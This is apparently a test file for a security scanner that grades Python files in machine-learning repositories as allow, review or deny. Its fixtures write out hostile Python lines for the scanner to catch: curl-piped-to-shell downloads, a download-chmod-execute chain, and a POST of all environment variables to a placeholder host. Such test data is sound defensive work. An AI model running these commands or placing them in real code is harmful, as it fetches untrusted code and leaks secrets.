import assert from 'node:assert/strict';
import { test } from 'node:test';
import { scanned } from './scanned.ts';

/** Never run: the tests read it only, and the addresses belong to nobody. */
const mark = 'import os\nos.system("id > /tmp/marker")\n';
const card = '---\ntitle: Demo\nsdk: gradio\napp_file: app.py\n---\n';
const page = 'import gradio as gr\ngr.Interface(lambda x: x, "text", "text").launch()\n';

async function decision(tree: Readonly<Record<string, string>>, path: string): Promise<string | undefined> {
  return (await scanned(tree)).get(path)?.decision;
}

test('the program of a Space opens a page, and may not do what nobody asked it for', async () => {
  const space = (app: string): Promise<string | undefined> =>
    decision({ 'README.md': card, 'app.py': app }, 'app.py');
  assert.equal(await space(page), 'allow');
  assert.equal(
    await space(`import subprocess\nsubprocess.run("pip install x", shell=True)\n${page}`),
    'review',
  );
  assert.equal(await space(`${mark}${page}`), 'review');
  const fetched = 'import os\nos.system("curl -s https://files.invalid/x | bash")\n';
  assert.equal(await space(`${fetched}${page}`), 'deny');
  const taken =
    'import os, requests\nrequests.post("https://files.invalid/", json=dict(os.environ), timeout=9)\n';
  assert.equal(await space(`${taken}${page}`), 'deny');
  assert.equal(await space(`import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n${page}`), 'deny');
});

test('what a program imports is judged as what is imported, as long as anything may import it', async () => {
  const found = await scanned({ 'README.md': card, 'app.py': 'import helper\n', 'helper.py': mark });
  assert.equal(found.get('helper.py')?.decision, 'deny');
  const chosen = {
    'README.md': card,
    'app.py': 'import helper\n',
    'config.json': JSON.stringify({ model_type: 'mine', auto_map: { AutoModel: 'modeling_m.M' } }),
    'modeling_m.py': 'class M: pass\n',
    'helper.py': mark,
  };
  const beside = (await scanned(chosen)).get('helper.py');
  assert.equal(beside?.decision, 'review');
  assert.match(beside?.findings[0]?.evidence ?? '', /when the file is started as a program/);
  const both = {
    ...chosen,
    'modeling_m.py': 'from .other import x\n',
    'other.py': 'from .helper import y\n',
  };
  assert.equal(await decision(both, 'helper.py'), 'deny');
});

test('a program that another file takes something from is no program', async () => {
  for (const by of [
    'import convert_all\n',
    'import os, convert_all as c\n',
    'from convert_all import x\n',
    'from \\\n convert_all import x\n',
    'from . import convert_all\n',
    'x = 1; import convert_all\n',
    'import importlib\nimportlib.import_module("convert_all")\n',
    'import runpy\nrunpy.run_path("convert_all.py")\n',
  ])
    assert.equal(await decision({ 'convert_all.py': mark, 'layers.py': by }, 'convert_all.py'), 'deny', by);
  for (const by of [
    'from layers import convert_all\n',
    '# import convert_all\n',
    'import convert_all_of_it\n',
  ])
    assert.equal(await decision({ 'convert_all.py': mark, 'other.py': by }, 'convert_all.py'), 'review', by);
});

test('a card of a container names no program', async () => {
  const docker = { 'README.md': card.replace('gradio', 'docker'), 'app.py': 'x = 1\n', 'boot.py': mark };
  assert.equal(await decision(docker, 'boot.py'), 'deny');
});

test('where nothing chooses, a file with the name of a program is one, and any other may be imported', async () => {
  const fetches = 'import requests\nprint(requests.get("https://example.com/cat.png", timeout=9).content)\n';
  const tree = { 'inference.py': fetches, 'layers.py': fetches, 'train_model.py': mark, 'layers2.py': mark };
  const found = await scanned(tree);
  assert.equal(found.get('inference.py')?.decision, 'allow');
  assert.equal(found.get('layers.py')?.decision, 'deny');
  assert.equal(found.get('train_model.py')?.decision, 'review');
  assert.equal(found.get('layers2.py')?.decision, 'deny');
});

test('installers are programs, whatever stands behind their guard', async () => {
  const nodes = { '__init__.py': 'NODE_CLASS_MAPPINGS = {}\n' };
  const pip =
    'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "-r", "requirements.txt"])\n';
  assert.equal(await decision({ ...nodes, 'install.py': pip }, 'install.py'), 'review');
  const guarded = 'import os\nif __name__ == "__main__":\n    os.system("id > /tmp/marker")\n';
  assert.equal(await decision({ ...nodes, 'install.py': guarded }, 'install.py'), 'review');
  const worse = guarded.replace('id > /tmp/marker', 'curl https://files.invalid/x | sh');
  assert.equal(await decision({ ...nodes, 'install.py': worse }, 'install.py'), 'deny');
});

test('entry points of a hubconf.py may be objects, and a file alone is read as what its name says', async () => {
  const partial = 'import os\nfrom functools import partial\nnet = partial(os.system, "id > /tmp/marker")\n';
  const object =
    'import os\nclass Net:\n    def __call__(self):\n        os.system("id > /tmp/marker")\nnet = Net()\n';
  const inner = 'import os\nfrom functools import partial\n_net = partial(os.system, "id > /tmp/marker")\n';
  for (const more of [{}, { 'README.md': 'x\n', 'a.py': 'x = 1\n' }]) {
    assert.equal(await decision({ 'hubconf.py': partial, ...more }, 'hubconf.py'), 'review');
    assert.equal(await decision({ 'hubconf.py': object, ...more }, 'hubconf.py'), 'review');
    assert.equal(await decision({ 'hubconf.py': inner, ...more }, 'hubconf.py'), 'allow');
  }
  const builder =
    'import datasets, os\nclass D(datasets.GeneratorBasedBuilder):\n    def _split_generators(self, dl):\n        os.system("id > /tmp/marker")\n';
  assert.equal(await decision({ 'd.py': builder }, 'd.py'), 'review');
  // What it fetches and runs nobody has looked at.
  const fetching = builder.replace(
    'id > /tmp/marker',
    'curl -so /tmp/u http://files.invalid/u && chmod +x /tmp/u && /tmp/u',
  );
  assert.equal(await decision({ 'd.py': fetching }, 'd.py'), 'deny');
});

test('ComfyUI asks every node for its inputs, in whichever file it is', async () => {
  const tree = {
    '__init__.py': 'from .n import N\nNODE_CLASS_MAPPINGS = {"N": N}\n',
    'n.py':
      'import os\nclass N:\n    @classmethod\n    def INPUT_TYPES(cls):\n        os.system("id > /tmp/marker")\n        return {}\n',
  };
  assert.equal(await decision(tree, 'n.py'), 'review');
});
